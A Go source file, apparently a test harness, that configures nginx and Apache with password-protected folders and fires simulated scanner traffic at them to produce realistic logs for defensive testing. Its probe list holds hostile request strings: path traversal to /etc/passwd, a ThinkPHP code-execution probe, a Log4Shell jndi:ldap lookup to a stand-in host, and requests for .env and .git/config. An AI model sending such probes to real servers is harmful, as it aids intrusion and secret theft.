package main

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// basic is a field of HTTP that tells name and password (RFC 7617).
func basic(user, password string) string {
	return "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+password))
}

// htpasswd makes /etc/htpasswd, in which alice's password is "open sesame".
const htpasswd = "printf 'alice:%s\\n' \"$(openssl passwd -apr1 'open sesame')\" >/etc/htpasswd\n"

// selfSigned makes /etc/ssl/gate.pem, certificate and key, and gate.key besides.
const selfSigned = `openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=gate.example.org -keyout /etc/ssl/gate.key -out /etc/ssl/gate.crt 2>/dev/null
cat /etc/ssl/gate.crt /etc/ssl/gate.key >/etc/ssl/gate.pem
`

// webAttacks are what any web server sees whose folder /private asks for a
// password and whose ports are 80 and, if tls is set, 443.
func webAttacks(tls bool) []Attack {
	const port = 80
	attacks := []Attack{
		{"a visitor", func(r *Run) {
			for _, c := range []*Client{r.Other, r.OtherV6} {
				c.HTTP(port, "GET / HTTP/1.1", "User-Agent: Mozilla/5.0")
				c.HTTP(port, "GET /missing.html HTTP/1.1", "User-Agent: Mozilla/5.0", "Referer: http://gate.example.org/")
			}
		}},
		{"correct password", func(r *Run) {
			r.Other.HTTP(port, "GET /private/ HTTP/1.1", basic("alice", "open sesame"))
			r.OtherV6.HTTP(port, "GET /private/ HTTP/1.1", basic("alice", "open sesame"))
		}},
		{"no password, wrong password, unknown user", func(r *Run) {
			for _, c := range []*Client{r.V4, r.V6} {
				c.HTTP(port, "GET /private/ HTTP/1.1")
				c.HTTP(port, "GET /private/ HTTP/1.1", basic("alice", "wrong"))
				c.HTTP(port, "GET /private/x?y=z HTTP/1.1", basic("nobody-here", "wrong"), "Referer: http://example.com/", "User-Agent: curl/7.88.1")
				c.HTTP(port, "GET /private/ HTTP/1.1", basic("", ""))
				c.HTTP(port, "GET /private/ HTTP/1.1", "Authorization: Basic !!!")
				c.HTTP(port, "GET /private/ HTTP/1.1", "Authorization: Digest username=\"alice\"")
			}
		}},
		{"forbidden", func(r *Run) {
			r.V4.HTTP(port, "GET /denied/ HTTP/1.1")
			r.V6.HTTP(port, "GET /denied/secret HTTP/1.1")
			r.V4.HTTP(port, "GET /empty/ HTTP/1.1")
		}},
		{"probes of exploits", func(r *Run) {
			for _, p := range []string{
				"GET /wp-login.php", "POST /xmlrpc.php", "GET /.env", "GET /.git/config", "GET /phpmyadmin/index.php", "GET /cgi-bin/luci/;stok=/locale",
				"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "GET /../../../../etc/passwd", "GET /%c0%ae%c0%ae/etc/passwd", "GET /index.php?s=/Index/\\think\\app/invokefunction",
				"GET /?x=${jndi:ldap://" + bystander4 + "/a}", "GET /boaform/admin/formLogin?username=user&psd=user", "GET http://example.com/", "CONNECT example.com:443",
				"PROPFIND /", "TRACE /", "FOO /",
			} {
				r.V4.HTTP(port, p+" HTTP/1.1", "User-Agent: zgrab/0.x")
			}
		}},
		{"broken requests", func(r *Run) {
			for _, raw := range []string{
				"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 hello over TLS\n\n", "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00", "GET\r\n\r\n", "\r\n\r\n\r\n",
				"GET / HTTP/9.9\r\n\r\n", "GET / HTTP/1.1\r\n\r\n", "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", "GET / HTTP/1.1\r\nHost: gate\r\nno colon\r\n\r\n", "SSH-2.0-Go\r\n",
				"GET / HTTP/1.1\r\nHost: " + bystander4 + "\\ x\r\n\r\n", "POST / HTTP/1.1\r\nHost: gate\r\nContent-Length: -1\r\n\r\n", "GET /" + longPath + " HTTP/1.1\r\nHost: gate\r\n\r\n",
			} {
				r.V4.Send(port, raw)
				r.V6.Reset(port, raw)
			}
			r.V4.Knock(port)
		}},
		{"hostile user names", func(r *Run) {
			for _, text := range hostileTexts() {
				r.V4.HTTP(port, "GET /private/ HTTP/1.1", basic(text, "wrong"))
			}
		}},
		{"hostile paths, agents, referers, hosts, forwarded-for", func(r *Run) {
			for _, text := range hostileNames() {
				r.V4.HTTP(port, "GET /private/"+text+" HTTP/1.1")
				r.V4.HTTP(port, "GET /missing\" 200 1 \""+text+"\" HTTP/1.1")
				r.V4.HTTP(port, "GET /private/ HTTP/1.1", "User-Agent: "+text, "Referer: "+text, basic("alice", "wrong"))
				r.V4.HTTP(port, "GET /private/ HTTP/1.1", "X-Forwarded-For: "+text, "X-Real-IP: "+text, "Forwarded: for="+text, basic("alice", "wrong"))
				r.V4.Send(port, "GET /private/ HTTP/1.1\r\nHost: "+text+"\r\nConnection: close\r\n\r\n")
				r.V4.Send(port, text+" /private/ HTTP/1.1\r\nHost: gate\r\nConnection: close\r\n\r\n")
			}
		}},
	}
	if tls {
		attacks = append(attacks, Attack{"TLS: a visitor, plain HTTP, a broken greeting", func(r *Run) {
			r.Other.SayTLS(443, "GET / HTTP/1.1\r\nHost: gate.example.org\r\nConnection: close\r\n")
			r.V4.SayTLS(443, "GET /private/ HTTP/1.1\r\nHost: gate.example.org\r\nConnection: close\r\n"+basic("alice", "wrong")+"\r\n")
			r.V4.HTTP(443, "GET / HTTP/1.1")
			r.V6.Send(443, "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00")
			r.V4.Knock(443)
		}})
	}
	return attacks
}

// longPath is more than web servers take.
var longPath = strings.Repeat("A/", 5000)

// Nginx is a web server; its error log tells of passwords.
func (catalogue) Nginx() Service {
	return Service{
		Name:     "nginx",
		Packages: []string{"nginx"},
		Files: map[string]string{
			"/var/www/html/index.html":         "hello\n",
			"/var/www/html/private/index.html": "secret\n",
			"/var/www/html/empty/.keep":        "",
			"/etc/nginx/sites-enabled/default": `server {
	listen 80 default_server;
	listen [::]:80 default_server;
	listen 443 ssl;
	listen [::]:443 ssl;
	ssl_certificate /etc/ssl/gate.crt;
	ssl_certificate_key /etc/ssl/gate.key;
	server_name gate.example.org;
	root /var/www/html;
	location /private { auth_basic "private"; auth_basic_user_file /etc/htpasswd; }
	location /denied { deny all; }
	location /limited { limit_req zone=few; limit_conn conns 1; }
}
`,
			"/etc/nginx/conf.d/limits.conf": "limit_req_zone $binary_remote_addr zone=few:1m rate=1r/m;\nlimit_conn_zone $binary_remote_addr zone=conns:1m;\n",
		},
		Prepare: htpasswd + selfSigned,
		Command: []string{"nginx", "-g", "daemon off;"},
		Ready:   Ready{TCP: 443},
		Logs:    []Log{{From: "/var/log/nginx/error.log"}, {From: "/var/log/nginx/access.log", As: "access"}},
		Attacks: append(webAttacks(true), Attack{"more requests than allowed", func(r *Run) {
			for range 3 {
				r.V4.HTTP(80, "GET /limited HTTP/1.1")
				r.V6.HTTP(80, "GET /limited HTTP/1.1")
			}
			r.Expect("limiting requests")
		}}),
	}
}

// Apache is a web server; its error log tells of passwords.
func (catalogue) Apache() Service {
	return Service{
		Name:     "apache2",
		Packages: []string{"apache2"},
		Files: map[string]string{
			"/var/www/html/index.html":         "hello\n",
			"/var/www/html/private/index.html": "secret\n",
			"/var/www/html/empty/.keep":        "",
			"/etc/apache2/conf-enabled/gate.conf": `ServerName gate.example.org
<Directory /var/www/html>
	Options -Indexes
</Directory>
<Location /private>
	AuthType Basic
	AuthName private
	AuthUserFile /etc/htpasswd
	Require valid-user
</Location>
<Location /digest>
	AuthType Digest
	AuthName private
	AuthDigestProvider file
	AuthUserFile /etc/htdigest
	Require valid-user
</Location>
<Location /denied>
	Require all denied
</Location>
<VirtualHost *:443>
	DocumentRoot /var/www/html
	SSLEngine on
	SSLCertificateFile /etc/ssl/gate.crt
	SSLCertificateKeyFile /etc/ssl/gate.key
	CustomLog /var/log/apache2/access.log combined
	ErrorLog /var/log/apache2/error.log
</VirtualHost>
`,
			"/etc/htdigest": "alice:private:0123456789abcdef0123456789abcdef\n",
		},
		Prepare: htpasswd + selfSigned + "a2enmod -q ssl auth_digest\n",
		Command: []string{"apachectl", "-D", "FOREGROUND"},
		Ready:   Ready{TCP: 443, Says: "resuming normal operations"},
		Logs:    []Log{{From: "/var/log/apache2/error.log"}, {From: "/var/log/apache2/access.log", As: "access"}},
		Attacks: append(webAttacks(true), Attack{"digest: wrong user, wrong password, nonsense", func(r *Run) {
			const fields = `Authorization: Digest username="%s", realm="%s", nonce="abc", uri="/digest/", response="0123456789abcdef0123456789abcdef"`
			for _, user := range append(hostileNames(), "alice", "nobody-here") {
				r.V4.HTTP(80, "GET /digest/ HTTP/1.1", fmt.Sprintf(fields, user, "private"))
			}
			r.V6.HTTP(80, "GET /digest/ HTTP/1.1", fmt.Sprintf(fields, "alice", bystander4))
			r.V6.HTTP(80, "GET /digest/ HTTP/1.1", "Authorization: Basic x")
		}}),
	}
}
